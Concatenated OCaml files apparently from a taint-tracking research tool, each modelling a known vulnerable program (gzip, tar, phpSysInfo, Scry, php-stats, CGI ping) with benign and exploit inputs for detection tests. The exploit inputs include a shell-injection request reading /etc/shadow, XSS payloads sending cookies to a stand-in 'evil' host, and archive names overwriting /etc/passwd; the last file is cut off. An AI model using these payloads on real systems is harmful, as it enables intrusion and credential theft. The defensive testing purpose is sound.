        Shift_os.World.add_file w ~tainted:true "archive.tar"
          (archive ~name:"../../etc/passwd" ~data:"root::0:0::/:/bin/sh"));
    (* the traversal name occupies archive bytes 0..15 *)
    provenance = Some ("file:archive.tar", 0, 15);
    images = [ ("gzip", gzip) ];
    multiproc = Some "tar";
    variants = None;
  }
