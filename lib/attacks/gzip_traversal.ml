(* GNU Gzip 1.2.4 directory traversal (CVE-2001-1228).

   gzip -N restores the original file name embedded in the compressed
   stream without sanitising it.  The guest is a miniature decompressor
   for an RLE format: header ['N' origname '\n'] followed by
   (count, byte) pairs; count 0 ends the stream.  The embedded name is
   tainted (it comes from the compressed file) and is passed to the
   output-file open — the H1 sink. *)

open Build
open Build.Infix

let program =
  {
    Ir.globals = [];
    funcs =
      [
        (* RLE-decode from src (starting at pos) into dst; returns the
           number of output bytes *)
        func "rle_decode" ~params:[ "src"; "pos"; "limit"; "dst" ]
          ~locals:[ scalar "count"; scalar "byte"; scalar "o"; scalar "k" ]
          [
            set "o" (i 0);
            while_ (v "pos" +: i 1 <: v "limit")
              [
                set "count" (load8 (v "src" +: v "pos"));
                when_ (v "count" ==: i 0) [ Ir.Break ];
                set "byte" (load8 (v "src" +: v "pos" +: i 1));
                set "k" (i 0);
                while_ (v "k" <: v "count")
                  [
                    store8 (v "dst" +: v "o") (v "byte");
                    set "o" (v "o" +: i 1);
                    set "k" (v "k" +: i 1);
                  ];
                set "pos" (v "pos" +: i 2);
              ];
            ret (v "o");
          ];
        func "main" ~params:[]
          ~locals:
            [ scalar "fd"; scalar "buf"; scalar "n"; scalar "pos"; array "name" 128;
              scalar "namelen"; scalar "out"; scalar "outlen"; scalar "ofd" ]
          [
            set "fd" (call "sys_open" [ str "data.gz" ]);
            when_ (v "fd" <: i 0) [ ret (i 1) ];
            set "buf" (call "malloc" [ i 8192 ]);
            set "n" (call "sys_read" [ v "fd"; v "buf"; i 8192 ]);
            when_ (v "n" <: i 2) [ ret (i 1) ];
            set "pos" (i 1);
            set "namelen" (i 0);
            if_ (load8 (v "buf") ==: i (Char.code 'N'))
              [
                (* -N: restore the embedded original name *)
                while_
                  ((v "pos" <: v "n") &&: (load8 (v "buf" +: v "pos") <>: i (Char.code '\n')))
                  [
                    store8 (v "name" +: v "namelen") (load8 (v "buf" +: v "pos"));
                    set "namelen" (v "namelen" +: i 1);
                    set "pos" (v "pos" +: i 1);
                  ];
                set "pos" (v "pos" +: i 1);
              ]
              [ Ir.Expr (call "strcpy" [ v "name"; str "data.out" ]); set "namelen" (i 8) ];
            store8 (v "name" +: v "namelen") (i 0);
            set "out" (call "malloc" [ i 65536 ]);
            set "outlen" (call "rle_decode" [ v "buf"; v "pos"; v "n"; v "out" ]);
            (* create the decompressed file under the embedded name *)
            set "ofd" (call "sys_open" [ v "name" ]);
            ecall "print" [ v "name" ];
            ret (v "outlen");
          ];
      ];
  }

let compressed ~name ~payload =
  let buf = Buffer.create 64 in
  (match name with
  | Some n -> Buffer.add_string buf ("N" ^ n ^ "\n")
  | None -> Buffer.add_string buf "-");
  List.iter
    (fun (count, ch) ->
      Buffer.add_char buf (Char.chr count);
      Buffer.add_char buf ch)
    payload;
  Buffer.add_char buf '\000';
  Buffer.contents buf

let policy =
  { Shift_policy.Policy.default with
    Shift_policy.Policy.taint_files = true;
    h1 = true;
  }

let case =
  {
    Attack_case.cve = "CVE-2001-1228";
    program_name = "GNU Gzip (1.2.4)";
    language = "C";
    attack_type = "Directory Traversal";
    detection_policies = "H1 + Low level policies";
    expected_policy = "H1";
    program;
    policy;
    benign =
      (fun w ->
        Shift_os.World.add_file w "data.gz"
          (compressed ~name:(Some "report.txt") ~payload:[ (5, 'a'); (3, 'b'); (7, 'x') ]));
    exploit =
      (fun w ->
        Shift_os.World.add_file w "data.gz"
          (compressed ~name:(Some "/root/.profile") ~payload:[ (4, '!') ]));
    provenance = None;
    images = [];
    multiproc = None;
    variants = None;
  }
