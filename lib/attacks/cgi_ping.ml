(* Extension case (policy H4): shell command injection.

   Table 1 lists H4 ("tainted data cannot contain shell meta characters
   when used as arguments to system()") but Table 2 has no command-
   injection row; this case exercises it.  A diagnostics CGI runs
   [ping] against a user-supplied host; a host parameter carrying ';'
   chains an arbitrary command. *)

open Build
open Build.Infix

let program =
  {
    Ir.globals = [];
    funcs =
      [
        func "host_param" ~params:[ "req"; "out" ]
          ~locals:[ scalar "p"; scalar "k"; scalar "ch" ]
          [
            set "p" (call "strstr" [ v "req"; str "host=" ]);
            when_ (v "p" ==: i 0) [ ret (i 0 -: i 1) ];
            set "p" (v "p" +: i 5);
            set "k" (i 0);
            while_ (v "k" <: i 120)
              [
                set "ch" (load8 (v "p" +: v "k"));
                when_ ((v "ch" ==: i 0) ||: (v "ch" ==: i (Char.code ' '))
                      ||: (v "ch" ==: i (Char.code '&')))
                  [ Ir.Break ];
                store8 (v "out" +: v "k") (v "ch");
                set "k" (v "k" +: i 1);
              ];
            store8 (v "out" +: v "k") (i 0);
            ret (v "k");
          ];
        func "main" ~params:[]
          ~locals:[ scalar "sock"; array "req" 512; array "host" 128; array "cmd" 256 ]
          [
            set "sock" (call "sys_accept" []);
            when_ (v "sock" <: i 0) [ ret (i 1) ];
            Ir.Expr (call "sys_recv" [ v "sock"; v "req"; i 512 ]);
            when_ (call "host_param" [ v "req"; v "host" ] <: i 0) [ ret (i 2) ];
            Ir.Expr (call "sprintf1" [ v "cmd"; str "ping -c 1 %s"; v "host" ]);
            (* the H4 sink: the command line still contains raw user bytes *)
            Ir.Expr (call "sys_system" [ v "cmd" ]);
            Ir.Expr (call "sys_html_out" [ str "<pre>ping done</pre>"; i 20 ]);
            ret (i 0);
          ];
      ];
  }

let policy = { Shift_policy.Policy.default with Shift_policy.Policy.h4 = true }

let case =
  {
    Attack_case.cve = "EXT-H4";
    program_name = "cgi-ping (extension)";
    language = "C";
    attack_type = "Command Injection";
    detection_policies = "H4 + Low level policies";
    expected_policy = "H4";
    program;
    policy;
    benign =
      (fun w -> Shift_os.World.queue_request w "GET /ping.cgi?host=example.org HTTP/1.0");
    exploit =
      (fun w ->
        Shift_os.World.queue_request w
          "GET /ping.cgi?host=127.0.0.1;cat${IFS}/etc/shadow HTTP/1.0");
    provenance = None;
    images = [];
    multiproc = None;
    variants = None;
  }
