(* GNU Tar 1.4 directory traversal (CVE-2001-1267 class).

   The guest is a miniature archive extractor.  Archive format (text):
   each member is [name '\n' size '\n' data...]; an empty name line ends
   the archive.  Tar 1.4 trusted member names, so an archive containing
   an absolute path overwrites arbitrary files on extraction.  Member
   names come from the (tainted) archive file; opening the output path
   is the H1 sink. *)

open Build
open Build.Infix

let program =
  {
    Ir.globals = [];
    funcs =
      [
        (* parse one decimal line starting at buf+pos; stores the value
           through out (8 bytes) and returns the position after '\n' *)
        func "parse_size_line" ~params:[ "buf"; "pos"; "limit"; "out" ]
          ~locals:[ scalar "nl"; array "num" 24; scalar "len" ]
          [
            set "nl" (call "memchr" [ v "buf" +: v "pos"; i (Char.code '\n'); v "limit" -: v "pos" ]);
            when_ (v "nl" ==: i 0) [ ret (i 0 -: i 1) ];
            set "len" (v "nl" -: (v "buf" +: v "pos"));
            when_ (v "len" >=: i 24) [ ret (i 0 -: i 1) ];
            Ir.Expr (call "memcpy" [ v "num"; v "buf" +: v "pos"; v "len" ]);
            store8 (v "num" +: v "len") (i 0);
            store64 (v "out") (call "atoi" [ v "num" ]);
            ret (v "pos" +: v "len" +: i 1);
          ];
        (* extract one member; returns the new position or -1 *)
        func "extract_member" ~params:[ "buf"; "pos"; "limit" ]
          ~locals:
            [ scalar "nl"; scalar "namelen"; array "name" 128; array "szslot" 8;
              scalar "size"; scalar "fd" ]
          [
            set "nl" (call "memchr" [ v "buf" +: v "pos"; i (Char.code '\n'); v "limit" -: v "pos" ]);
            when_ (v "nl" ==: i 0) [ ret (i 0 -: i 1) ];
            set "namelen" (v "nl" -: (v "buf" +: v "pos"));
            when_ (v "namelen" ==: i 0) [ ret (i 0 -: i 1) ];
            when_ (v "namelen" >=: i 128) [ ret (i 0 -: i 1) ];
            Ir.Expr (call "memcpy" [ v "name"; v "buf" +: v "pos"; v "namelen" ]);
            store8 (v "name" +: v "namelen") (i 0);
            set "pos" (v "pos" +: v "namelen" +: i 1);
            set "pos" (call "parse_size_line" [ v "buf"; v "pos"; v "limit"; v "szslot" ]);
            when_ (v "pos" <: i 0) [ ret (i 0 -: i 1) ];
            set "size" (load64 (v "szslot"));
            (* the member size steers pointer arithmetic, so tar bounds
               checks it; the application-specific rule (§3.3.2) then
               clears its tag *)
            when_ ((v "size" <: i 0) ||: (v "pos" +: v "size" >: v "limit"))
              [ ret (i 0 -: i 1) ];
            set "size" (call "untaint" [ v "size" ]);
            (* "create" the output file: the H1/H2 policy sink *)
            set "fd" (call "sys_open" [ v "name" ]);
            ecall "print" [ v "name" ];
            ecall "print" [ str "\n" ];
            (* skip the member data *)
            ret (v "pos" +: v "size" +: i 1);
          ];
        func "main" ~params:[]
          ~locals:[ scalar "fd"; scalar "buf"; scalar "n"; scalar "pos"; scalar "members" ]
          [
            set "fd" (call "sys_open" [ str "archive.tar" ]);
            when_ (v "fd" <: i 0) [ ret (i 1) ];
            set "buf" (call "malloc" [ i 8192 ]);
            set "n" (call "sys_read" [ v "fd"; v "buf"; i 8192 ]);
            set "pos" (i 0);
            set "members" (i 0);
            while_ (v "pos" <: v "n")
              [
                set "pos" (call "extract_member" [ v "buf"; v "pos"; v "n" ]);
                when_ (v "pos" <: i 0) [ Ir.Break ];
                set "members" (v "members" +: i 1);
              ];
            ret (v "members");
          ];
      ];
  }

let archive members =
  String.concat ""
    (List.map (fun (name, data) ->
         Printf.sprintf "%s\n%d\n%s\n" name (String.length data) data)
       members)

let policy =
  { Shift_policy.Policy.default with
    Shift_policy.Policy.taint_files = true;
    h1 = true;
  }

let case =
  {
    Attack_case.cve = "CVE-2001-1267";
    program_name = "GNU Tar (1.4)";
    language = "C";
    attack_type = "Directory Traversal";
    detection_policies = "H1 + Low level policies";
    expected_policy = "H1";
    program;
    policy;
    benign =
      (fun w ->
        Shift_os.World.add_file w "archive.tar"
          (archive [ ("docs/readme.txt", "hello tar"); ("docs/notes.txt", "more") ]));
    exploit =
      (fun w ->
        Shift_os.World.add_file w "archive.tar"
          (archive [ ("docs/readme.txt", "innocuous"); ("/etc/passwd", "root::0:0::/:/bin/sh") ]));
    (* "/etc/passwd" sits at archive bytes 28..38: 15 name + 1 nl + 1
       size digit + 1 nl + 9 payload + 1 nl *)
    provenance = Some ("file:archive.tar", 28, 38);
    images = [];
    multiproc = None;
    variants = None;
  }
