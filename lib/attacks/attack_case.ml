type t = {
  cve : string;
  program_name : string;
  language : string;
  attack_type : string;
  detection_policies : string;
  expected_policy : string;
  program : Ir.program;
  policy : Shift_policy.Policy.t;
  benign : Shift_os.World.t -> unit;
  exploit : Shift_os.World.t -> unit;
  provenance : (string * int * int) option;
}
