type t = {
  cve : string;
  program_name : string;
  language : string;
  attack_type : string;
  detection_policies : string;
  expected_policy : string;
  program : Ir.program;
  policy : Shift_policy.Policy.t;
  benign : Shift_os.World.t -> unit;
  exploit : Shift_os.World.t -> unit;
  provenance : (string * int * int) option;
  images : (string * Ir.program) list;
  multiproc : string option;
  variants : (int -> Shift_os.World.t -> unit) option;
}

(* Every front end (CLI, serve catalogue, tests) builds its session
   from these helpers so a case's machine shape cannot drift between
   entry points: a single-process case produces exactly the config it
   always did, a multi-process case brings its process personality and
   aux images along. *)

let config ?trace ?hwtrace ?(superblocks = true)
    ?(backend = Shift_tracking.Backend.Nat) ~mode ~input (c : t) =
  let threading =
    match c.multiproc with
    | None -> Shift.Session.Config.Single
    | Some comm ->
        Shift.Session.Config.Processes { quantum = None; comm = Some comm }
  in
  let images =
    List.map
      (fun (name, prog) -> (name, Shift.Session.build ~backend ~mode prog))
      c.images
  in
  Shift.Session.Config.make ~policy:c.policy ~setup:input ~threading ?trace
    ?hwtrace ~superblocks ~backend ~images ()

let image ?(backend = Shift_tracking.Backend.Nat) ~mode (c : t) =
  Shift.Session.build ~backend ~mode c.program

let run ?trace ?superblocks ?backend ~mode ~input (c : t) =
  Shift.Session.exec
    ~config:(config ?trace ?superblocks ?backend ~mode ~input c)
    (image ?backend ~mode c)
