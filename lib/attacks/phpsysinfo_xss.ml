(* phpSysInfo 2.3 cross-site scripting (CVE-2003-0536).

   The system-information page reflects request parameters (the display
   language / template selector) into the generated page unescaped.
   The parameter is network data; the page write is the H5 sink. *)

open Build
open Build.Infix

let program =
  {
    Ir.globals =
      [
        global_bytes "os_name" "SimulatedOS 2.6";
        global_bytes "cpu_name" "IA-64-like core, 6-issue";
      ];
    funcs =
      [
        func "emit" ~params:[ "s" ] ~locals:[]
          [ Ir.Expr (call "sys_html_out" [ v "s"; call "strlen" [ v "s" ] ]); ret0 ];
        (* URL-decodes the lng= parameter into out (handles %xx for a
           few common escapes, '+' as space) *)
        func "lng_param" ~params:[ "req"; "out" ]
          ~locals:[ scalar "p"; scalar "k"; scalar "o"; scalar "ch"; scalar "hi"; scalar "lo" ]
          [
            set "p" (call "strstr" [ v "req"; str "lng=" ]);
            when_ (v "p" ==: i 0) [ ret (i 0 -: i 1) ];
            set "p" (v "p" +: i 4);
            set "k" (i 0);
            set "o" (i 0);
            while_ (v "o" <: i 200)
              [
                set "ch" (load8 (v "p" +: v "k"));
                when_ ((v "ch" ==: i 0) ||: (v "ch" ==: i (Char.code ' '))
                      ||: (v "ch" ==: i (Char.code '&')))
                  [ Ir.Break ];
                if_ (v "ch" ==: i (Char.code '+'))
                  [ store8 (v "out" +: v "o") (i (Char.code ' ')); set "k" (v "k" +: i 1) ]
                  [
                    if_ (v "ch" ==: i (Char.code '%'))
                      [
                        set "hi" (call "hexval" [ load8 (v "p" +: v "k" +: i 1) ]);
                        set "lo" (call "hexval" [ load8 (v "p" +: v "k" +: i 2) ]);
                        store8 (v "out" +: v "o") ((v "hi" <<: i 4) |: v "lo");
                        set "k" (v "k" +: i 3);
                      ]
                      [ store8 (v "out" +: v "o") (v "ch"); set "k" (v "k" +: i 1) ];
                  ];
                set "o" (v "o" +: i 1);
              ];
            store8 (v "out" +: v "o") (i 0);
            ret (v "o");
          ];
        func "hexval" ~params:[ "ch" ] ~locals:[]
          [
            when_ ((v "ch" >=: i (Char.code '0')) &&: (v "ch" <=: i (Char.code '9')))
              [ ret (v "ch" -: i (Char.code '0')) ];
            when_ ((v "ch" >=: i (Char.code 'a')) &&: (v "ch" <=: i (Char.code 'f')))
              [ ret (v "ch" -: i (Char.code 'a') +: i 10) ];
            when_ ((v "ch" >=: i (Char.code 'A')) &&: (v "ch" <=: i (Char.code 'F')))
              [ ret (v "ch" -: i (Char.code 'A') +: i 10) ];
            ret (i 0);
          ];
        func "main" ~params:[]
          ~locals:[ scalar "sock"; array "req" 512; array "lng" 256; array "row" 512 ]
          [
            set "sock" (call "sys_accept" []);
            when_ (v "sock" <: i 0) [ ret (i 1) ];
            Ir.Expr (call "sys_recv" [ v "sock"; v "req"; i 512 ]);
            when_ (call "lng_param" [ v "req"; v "lng" ] <: i 0) [ ret (i 2) ];
            ecall "emit" [ str "<html><title>phpSysInfo</title><body>" ];
            Ir.Expr (call "sprintf1" [ v "row"; str "<p>language: %s</p>"; v "lng" ]);
            ecall "emit" [ v "row" ];
            Ir.Expr (call "sprintf1" [ v "row"; str "<p>OS: %s</p>"; v "os_name" ]);
            ecall "emit" [ v "row" ];
            Ir.Expr (call "sprintf1" [ v "row"; str "<p>CPU: %s</p>"; v "cpu_name" ]);
            ecall "emit" [ v "row" ];
            ecall "emit" [ str "</body></html>" ];
            ret (i 0);
          ];
      ];
  }

let policy = { Shift_policy.Policy.default with Shift_policy.Policy.h5 = true }

let case =
  {
    Attack_case.cve = "CVE-2003-0536";
    program_name = "phpSysInfo (2.3)";
    language = "PHP";
    attack_type = "Cross Site Scripting";
    detection_policies = "H5 + Low level policies";
    expected_policy = "H5";
    program;
    policy;
    benign =
      (fun w -> Shift_os.World.queue_request w "GET /index.php?lng=en HTTP/1.0");
    exploit =
      (fun w ->
        Shift_os.World.queue_request w
          "GET /index.php?lng=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.0");
    provenance = None;
    images = [];
    multiproc = None;
    variants = None;
  }
