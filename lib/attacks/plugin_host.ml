(* Extension case (policy L3): control-flow hijack through a tainted
   function pointer.

   A plugin host reads a dispatch record — "handler code address" — from
   its (untrusted) registry file.  Known handlers are validated against
   the host's own table and the pointer's tag is cleared (the
   check-then-trust pattern, §3.3.2); the bug is a legacy path that
   calls an unrecognised address anyway.  Under SHIFT the unvalidated
   pointer still carries its tag, and moving it into the branch
   register faults — policy L3, the paper's "tainted data cannot be
   moved into special registers". *)

open Build
open Build.Infix

let program =
  {
    Ir.globals = [];
    funcs =
      [
        func "handler_status" ~params:[] ~locals:[]
          [ ecall "println" [ str "status: ok" ]; ret (i 10) ];
        func "handler_reload" ~params:[] ~locals:[]
          [ ecall "println" [ str "reloading" ]; ret (i 20) ];
        (* a privileged routine that is present in the binary but never
           registered as a handler — the return-to-libc target *)
        func "maintenance_shell" ~params:[] ~locals:[]
          [ ecall "println" [ str "PWNED: maintenance shell reached" ]; ret (i 99) ];
        func "dispatch" ~params:[ "target" ] ~locals:[]
          [
            (* validate against the registered handlers; a match proves
               the value, so its tag is cleared *)
            when_ (v "target" ==: fnptr "handler_status")
              [ ret (icall (call "untaint" [ v "target" ]) []) ];
            when_ (v "target" ==: fnptr "handler_reload")
              [ ret (icall (call "untaint" [ v "target" ]) []) ];
            (* the bug: unknown "legacy" handlers are trusted blindly *)
            ecall "println" [ str "legacy handler" ];
            ret (icall (v "target") []);
          ];
        func "main" ~params:[]
          ~locals:[ scalar "fd"; array "buf" 16; scalar "target" ]
          [
            set "fd" (call "sys_open" [ str "plugins.reg" ]);
            when_ (v "fd" <: i 0) [ ret (i 1) ];
            Ir.Expr (call "sys_read" [ v "fd"; v "buf"; i 8 ]);
            set "target" (load64 (v "buf"));
            ret (call "dispatch" [ v "target" ]);
          ];
      ];
  }

let policy =
  { Shift_policy.Policy.default with Shift_policy.Policy.taint_files = true }

(* registry file: just the handler's code address.  A benign registry
   names a real handler; the attacker's registry smuggles an arbitrary
   one ("shellcode" elsewhere in memory). *)
let registry_for addr =
  let b = Buffer.create 8 in
  Buffer.add_int64_le b addr;
  Buffer.contents b

(* Registry contents hold real code addresses, which depend on the
   compilation mode (the attacker is assumed to know the binary); the
   case is therefore built per mode. *)
let code_addr mode label =
  let image = Shift.Session.build ~mode program in
  Int64.of_int (Shift_isa.Program.target image.Shift_compiler.Image.program label)

let case_for_mode mode =
  {
    Attack_case.cve = "EXT-L3";
    program_name = "plugin-host (extension)";
    language = "C";
    attack_type = "Control-flow hijack";
    detection_policies = "L3";
    expected_policy = "L3";
    program;
    policy;
    benign =
      (fun w ->
        Shift_os.World.add_file w "plugins.reg"
          (registry_for (code_addr mode "handler_status")));
    exploit =
      (fun w ->
        Shift_os.World.add_file w "plugins.reg"
          (registry_for (code_addr mode "maintenance_shell")));
    provenance = None;
    images = [];
    multiproc = None;
    variants = None;
  }
