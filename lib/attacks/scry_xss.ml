(* Scry 1.1 gallery cross-site scripting (CVE-2007-0393 class).

   The gallery echoes the requested album name into the page without
   escaping.  A request whose album parameter embeds a <script> tag gets
   it reflected to every viewer.  The album name is network data
   (tainted); writing the page is the H5 sink. *)

open Build
open Build.Infix

let program =
  {
    Ir.globals = [];
    funcs =
      [
        func "emit" ~params:[ "s" ] ~locals:[]
          [ Ir.Expr (call "sys_html_out" [ v "s"; call "strlen" [ v "s" ] ]); ret0 ];
        (* find "album=" in the request and return a pointer to a
           NUL-terminated copy on the heap *)
        func "album_of_request" ~params:[ "req" ]
          ~locals:[ scalar "p"; scalar "name"; scalar "k"; scalar "ch" ]
          [
            set "p" (call "strstr" [ v "req"; str "album=" ]);
            when_ (v "p" ==: i 0) [ ret (i 0) ];
            set "p" (v "p" +: i 6);
            set "name" (call "malloc" [ i 256 ]);
            set "k" (i 0);
            while_ (v "k" <: i 255)
              [
                set "ch" (load8 (v "p" +: v "k"));
                when_
                  ((v "ch" ==: i 0) ||: (v "ch" ==: i (Char.code ' '))
                  ||: (v "ch" ==: i (Char.code '&')))
                  [ Ir.Break ];
                store8 (v "name" +: v "k") (v "ch");
                set "k" (v "k" +: i 1);
              ];
            store8 (v "name" +: v "k") (i 0);
            ret (v "name");
          ];
        func "render_gallery" ~params:[ "album" ]
          ~locals:[ array "line" 512; scalar "k" ]
          [
            ecall "emit" [ str "<html><body>" ];
            Ir.Expr (call "sprintf1" [ v "line"; str "<h1>Album: %s</h1>"; v "album" ]);
            ecall "emit" [ v "line" ];
            (* thumbnail grid *)
            ecall "emit" [ str "<table>" ];
            set "k" (i 0);
            while_ (v "k" <: i 4)
              [
                Ir.Expr
                  (call "sprintf2"
                     [ v "line"; str "<tr><td><img src=\"%s/%d.jpg\"></td></tr>"; v "album"; v "k" ]);
                ecall "emit" [ v "line" ];
                set "k" (v "k" +: i 1);
              ];
            ecall "emit" [ str "</table></body></html>" ];
            ret0;
          ];
        func "main" ~params:[] ~locals:[ scalar "sock"; array "req" 512; scalar "album" ]
          [
            set "sock" (call "sys_accept" []);
            when_ (v "sock" <: i 0) [ ret (i 1) ];
            Ir.Expr (call "sys_recv" [ v "sock"; v "req"; i 512 ]);
            set "album" (call "album_of_request" [ v "req" ]);
            when_ (v "album" ==: i 0) [ ret (i 2) ];
            ecall "render_gallery" [ v "album" ];
            ret (i 0);
          ];
      ];
  }

let policy = { Shift_policy.Policy.default with Shift_policy.Policy.h5 = true }

let case =
  {
    Attack_case.cve = "CVE-2007-0393";
    program_name = "Scry (1.1)";
    language = "PHP";
    attack_type = "Cross Site Scripting";
    detection_policies = "H5 + Low level policies";
    expected_policy = "H5";
    program;
    policy;
    benign =
      (fun w -> Shift_os.World.queue_request w "GET /scry.php?album=summer2006 HTTP/1.0");
    exploit =
      (fun w ->
        Shift_os.World.queue_request w
          "GET /scry.php?album=<script>document.location='http://evil/'+document.cookie</script> HTTP/1.0");
    provenance = None;
    images = [];
    multiproc = None;
    variants = None;
  }
