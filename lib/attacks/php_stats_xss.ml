(* php-stats 0.1.9.1b cross-site scripting (CVE-2005-4555 class).

   The statistics page aggregates per-referrer hit counts and prints
   each referrer string verbatim into the report table.  Referrers come
   straight from request headers (tainted network data), so a forged
   Referer header smuggles a <script> tag into the admin's stats page. *)

open Build
open Build.Infix

let program =
  {
    Ir.globals = [ global_zeros "hits" 64 (* 8 counters *) ];
    funcs =
      [
        func "emit" ~params:[ "s" ] ~locals:[]
          [ Ir.Expr (call "sys_html_out" [ v "s"; call "strlen" [ v "s" ] ]); ret0 ];
        (* copy the Referer header value into out; returns length or -1 *)
        func "referer_of" ~params:[ "req"; "out" ]
          ~locals:[ scalar "p"; scalar "k"; scalar "ch" ]
          [
            set "p" (call "strstr" [ v "req"; str "Referer: " ]);
            when_ (v "p" ==: i 0) [ ret (i 0 -: i 1) ];
            set "p" (v "p" +: i 9);
            set "k" (i 0);
            while_ (v "k" <: i 255)
              [
                set "ch" (load8 (v "p" +: v "k"));
                when_ ((v "ch" ==: i 0) ||: (v "ch" ==: i (Char.code '\r'))
                      ||: (v "ch" ==: i (Char.code '\n')))
                  [ Ir.Break ];
                store8 (v "out" +: v "k") (v "ch");
                set "k" (v "k" +: i 1);
              ];
            store8 (v "out" +: v "k") (i 0);
            ret (v "k");
          ];
        (* toy per-referrer hash bucket *)
        func "bucket_of" ~params:[ "s" ] ~locals:[ scalar "h"; scalar "k"; scalar "ch" ]
          [
            set "h" (i 5381);
            set "k" (i 0);
            while_ (i 1)
              [
                set "ch" (load8 (v "s" +: v "k"));
                when_ (v "ch" ==: i 0) [ Ir.Break ];
                set "h" ((v "h" *: i 33) +: v "ch");
                set "k" (v "k" +: i 1);
              ];
            ret (v "h" &: i 7);
          ];
        func "main" ~params:[]
          ~locals:
            [ scalar "sock"; array "req" 512; array "ref" 256; scalar "len";
              scalar "b"; array "row" 512; scalar "count" ]
          [
            set "sock" (call "sys_accept" []);
            when_ (v "sock" <: i 0) [ ret (i 1) ];
            Ir.Expr (call "sys_recv" [ v "sock"; v "req"; i 512 ]);
            set "len" (call "referer_of" [ v "req"; v "ref" ]);
            when_ (v "len" <: i 0) [ ret (i 2) ];
            (* account the hit; the bucket index is masked to the table
               size, the classic bounds-checked lookup the §3.3.2 rules
               recognise and untaint *)
            set "b" (call "untaint" [ call "bucket_of" [ v "ref" ] ]);
            store64 (v "hits" +: (v "b" *: i 8)) (load64 (v "hits" +: (v "b" *: i 8)) +: i 1);
            (* render the admin report *)
            ecall "emit" [ str "<html><h2>Top referrers</h2><table>" ];
            set "count" (load64 (v "hits" +: (v "b" *: i 8)));
            Ir.Expr
              (call "sprintf2" [ v "row"; str "<tr><td>%s</td><td>%d</td></tr>"; v "ref"; v "count" ]);
            ecall "emit" [ v "row" ];
            ecall "emit" [ str "</table></html>" ];
            ret (i 0);
          ];
      ];
  }

let policy = { Shift_policy.Policy.default with Shift_policy.Policy.h5 = true }

let case =
  {
    Attack_case.cve = "CVE-2005-4555";
    program_name = "php-stats (0.1.9.1b)";
    language = "PHP";
    attack_type = "Cross Site Scripting";
    detection_policies = "H5 + Low level policies";
    expected_policy = "H5";
    program;
    policy;
    benign =
      (fun w ->
        Shift_os.World.queue_request w
          "GET /stats.php HTTP/1.0\r\nReferer: http://example.org/blog\r\n");
    exploit =
      (fun w ->
        Shift_os.World.queue_request w
          "GET /stats.php HTTP/1.0\r\nReferer: http://e/<script>fetch('http://evil/steal')</script>\r\n");
    provenance = None;
    images = [];
    multiproc = None;
    variants = None;
  }
