let all =
  [
    Tar_traversal.case;
    Gzip_traversal.case;
    Qwikiwiki_traversal.case;
    Scry_xss.case;
    Php_stats_xss.case;
    Phpsysinfo_xss.case;
    Phpmyfaq_sqli.case;
    Bftpd_format.case;
  ]

let extended ~mode = [ Cgi_ping.case; Plugin_host.case_for_mode mode ]
let multiproc = [ Cgi_shell.case; Tar_pipeline.case ]
let sidechannel = [ Aes_table.case; Aes_table.case_ct ]

let find name =
  let lower = String.lowercase_ascii name in
  List.find_opt
    (fun (c : Attack_case.t) ->
      let n = String.lowercase_ascii c.program_name in
      String.length n >= String.length lower && String.sub n 0 (String.length lower) = lower)
    (all @ extended ~mode:Shift_compiler.Mode.shift_word @ multiproc @ sidechannel)
