(* Cross-process command injection: a CGI front end forks a shell.

   The classic CGI attack shape ([cgi_ping] compressed into one
   process) actually spans two: the web server parses the request and
   builds a command line, then forks and execs /bin/sh, and only the
   *shell* passes the attacker's bytes to system().  Detection must
   therefore survive fork (taint bitmap and provenance cloned with the
   address space), exec (argv bytes sampled out of the dying image and
   re-deposited in the fresh one), and fire in the child — with a
   provenance chain that still names the parent's socket bytes.

   Policy H4: tainted data must not contain shell metacharacters when
   used as arguments to system(). *)

open Build
open Build.Infix

(* pid 1, "httpd-cgi": accept a request, extract the host= parameter,
   build the ping command line, hand it to a forked shell *)
let program =
  {
    Ir.globals = [];
    funcs =
      [
        func "host_param" ~params:[ "req"; "out" ]
          ~locals:[ scalar "p"; scalar "k"; scalar "ch" ]
          [
            set "p" (call "strstr" [ v "req"; str "host=" ]);
            when_ (v "p" ==: i 0) [ ret (i 0 -: i 1) ];
            set "p" (v "p" +: i 5);
            set "k" (i 0);
            while_ (v "k" <: i 120)
              [
                set "ch" (load8 (v "p" +: v "k"));
                when_ ((v "ch" ==: i 0) ||: (v "ch" ==: i (Char.code ' '))
                      ||: (v "ch" ==: i (Char.code '&')))
                  [ Ir.Break ];
                store8 (v "out" +: v "k") (v "ch");
                set "k" (v "k" +: i 1);
              ];
            store8 (v "out" +: v "k") (i 0);
            ret (v "k");
          ];
        func "main" ~params:[]
          ~locals:
            [ scalar "sock"; array "req" 512; array "host" 128; array "cmd" 256;
              scalar "pid"; scalar "st" ]
          [
            set "sock" (call "sys_accept" []);
            when_ (v "sock" <: i 0) [ ret (i 1) ];
            Ir.Expr (call "sys_recv" [ v "sock"; v "req"; i 512 ]);
            when_ (call "host_param" [ v "req"; v "host" ] <: i 0) [ ret (i 2) ];
            Ir.Expr (call "sprintf1" [ v "cmd"; str "ping -c 1 %s"; v "host" ]);
            set "pid" (call "sys_fork" []);
            when_ (v "pid" <: i 0) [ ret (i 3) ];
            when_ (v "pid" ==: i 0)
              [
                (* the child becomes the shell; the raw user bytes cross
                   the exec boundary as argv *)
                Ir.Expr (call "sys_exec" [ str "sh"; v "cmd" ]);
                ret (i 127);
              ];
            set "st" (call "sys_wait" [ v "pid" ]);
            Ir.Expr (call "sys_html_out" [ str "<pre>ping done</pre>"; i 20 ]);
            ret (v "st");
          ];
      ];
  }

(* pid 2, "sh": fetch the command line from argv and run it — the H4
   sink fires here, two process hops away from the socket *)
let shell =
  {
    Ir.globals = [];
    funcs =
      [
        func "main" ~params:[] ~locals:[ array "cmd" 256; scalar "n" ]
          [
            set "n" (call "sys_getarg" [ i 0; v "cmd" ]);
            when_ (v "n" <: i 0) [ ret (i 1) ];
            Ir.Expr (call "sys_system" [ v "cmd" ]);
            ret (i 0);
          ];
      ];
  }

let policy = { Shift_policy.Policy.default with Shift_policy.Policy.h4 = true }

let case =
  {
    Attack_case.cve = "EXT-H4-FORK";
    program_name = "cgi-shell (fork/exec)";
    language = "C";
    attack_type = "Command Injection (cross-process)";
    detection_policies = "H4 + Low level policies";
    expected_policy = "H4";
    program;
    policy;
    benign =
      (fun w ->
        Shift_os.World.queue_request w
          "GET /ping.cgi?host=example.org HTTP/1.0");
    exploit =
      (fun w ->
        Shift_os.World.queue_request w
